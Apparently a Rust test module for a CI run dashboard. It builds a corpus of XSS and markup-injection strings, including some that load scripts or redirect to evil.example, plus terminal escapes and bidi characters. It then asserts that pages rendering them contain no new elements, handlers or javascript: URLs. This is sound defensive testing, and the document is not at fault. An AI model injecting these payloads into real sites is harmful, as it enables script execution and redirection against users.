//! Texts that try to be more than text, and the check that a page with them has nothing new in it.

use engine::store::{NewRun, RunId};
use workflow::run::RunEvent;

use crate::world::{World, course};

/// What people have put into names, messages and logs.
pub(crate) const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title><svg onload=alert(1)>",
    "</textarea></style></noscript><iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "{{ 7*7 }}{% for i in range(10) %}x{% endfor %}",
    "${alert(1)}<!--><script>",
    "<hx-partial hx-target=\"body\">x</hx-partial><div hx-get=\"/x\" hx-trigger=\"load\">",
    "\u{202e}gpj.exe\u{2066}\u{200b}",
    "\u{1b}]8;;javascript:alert(1)\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;AAAA\u{7}\u{1b}[2J\u{1b}[1;1H",
    "\u{0}\u{8}\u{7f}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
];

/// What ends the place in which a text may stand: an attribute, an element whose content is text, a comment.
const BREAKS: &[&str] = &[
    "",
    "\">",
    "'>",
    " x=`>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "-->",
    "]]>",
    "&quot;>",
    "\\\");",
];

/// What would do something there.
const DEEDS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT/src=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=java&#x09;script:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=csrf>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<math href=javascript:alert(1)><mtext>x</mtext></math>",
];

/// More than 200: each deed behind each break, and those that are of no such form.
pub(crate) fn corpus() -> Vec<String> {
    let made = BREAKS.iter().flat_map(|before| DEEDS.iter().map(move |deed| format!("x{before}{deed}")));
    made.chain(TEXTS.iter().map(|text| (*text).to_owned())).collect()
}

/// Elements whose names a page of ours may have.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "a",
    "header",
    "svg",
    "use",
    "span",
    "nav",
    "div",
    "details",
    "summary",
    "p",
    "form",
    "input",
    "button",
    "main",
    "h1",
    "h2",
    "h3",
    "ol",
    "ul",
    "li",
    "dialog",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "kbd",
    "bdi",
    "time",
    "code",
    "pre",
    "section",
    "label",
    "select",
    "option",
    "strong",
    "path",
    "g",
    "rect",
    "text",
    "mark",
    "output",
    "dl",
    "dt",
    "dd",
    "textarea",
    "em",
    "b",
    "i",
    "u",
    "s",
    "small",
    "br",
    "hr",
    "blockquote",
    "template",
];

/// No element that a template does not have, no handler, no address with a script, nothing unseen.
pub(crate) fn check_harmless(html: &str, what: &str) {
    for tag in tags(html) {
        let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '-').collect();
        let is_known = ELEMENTS.contains(&name.to_ascii_lowercase().as_str());
        assert!(is_known || tag.starts_with("!doctype"), "{what:?}: <{tag}>");
        if name == "script" {
            assert!(tag.starts_with("script src=\"/static/"), "{what:?}: <{tag}>");
        }
        // What stands in quotes is a value; outside of it there is no handler.
        let outside: String = tag.split('"').step_by(2).collect();
        assert!(!outside.to_ascii_lowercase().contains(" on"), "{what:?}: <{tag}>");
        assert!(!outside.to_ascii_lowercase().contains(" style"), "{what:?}: <{tag}>");
        for value in tag.split('"').skip(1).step_by(2) {
            assert!(!value.trim().to_ascii_lowercase().starts_with("javascript:"), "{what:?}: <{tag}>");
        }
    }
    let unseen = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}' | '\u{1b}' | '\0' | '\u{8}' | '\u{7f}');
    assert!(!html.contains(unseen), "{what:?}: unseen characters");
}

/// What stands between `<` and `>`, quotes respected; closing tags left out.
fn tags(html: &str) -> Vec<&str> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(begin) = rest.find('<') {
        rest = &rest[begin + 1..];
        let mut is_quoted = false;
        let end = rest.find(|c| {
            is_quoted ^= c == '"';
            c == '>' && !is_quoted
        });
        let end = end.unwrap_or(rest.len());
        if !rest.starts_with('/') {
            tags.push(&rest[..end]);
        }
        rest = &rest[end..];
    }
    tags
}

/// A run of which everything that somebody may choose is this text.
pub(crate) async fn run_named(world: &World, text: &str) -> RunId {
    let new = NewRun {
        repository: "octo/shop".into(),
        workflow: format!(".github/workflows/{text}.yml"),
        event: "push".into(),
        git_ref: format!("refs/heads/{text}"),
        sha: "1".repeat(40),
        started_at: "2026-01-01T00:00:00Z".into(),
        actor: text.into(),
        title: text.into(),
        ..NewRun::default()
    };
    let run = world.store.create_run(new).await.unwrap().id;
    let mut events = course();
    for event in &mut events {
        if let RunEvent::JobExpanded { legs, .. } = event {
            legs[0].name = text.into();
        } else if let RunEvent::StepStarted { name, .. } | RunEvent::JobRunPlaced { runner: name, .. } = event {
            *name = text.into();
        } else if let RunEvent::JobRunFinished { message, .. } = event {
            *message = Some(text.into());
        }
    }
    world.facts(run, 1, &events).await;
    run
}
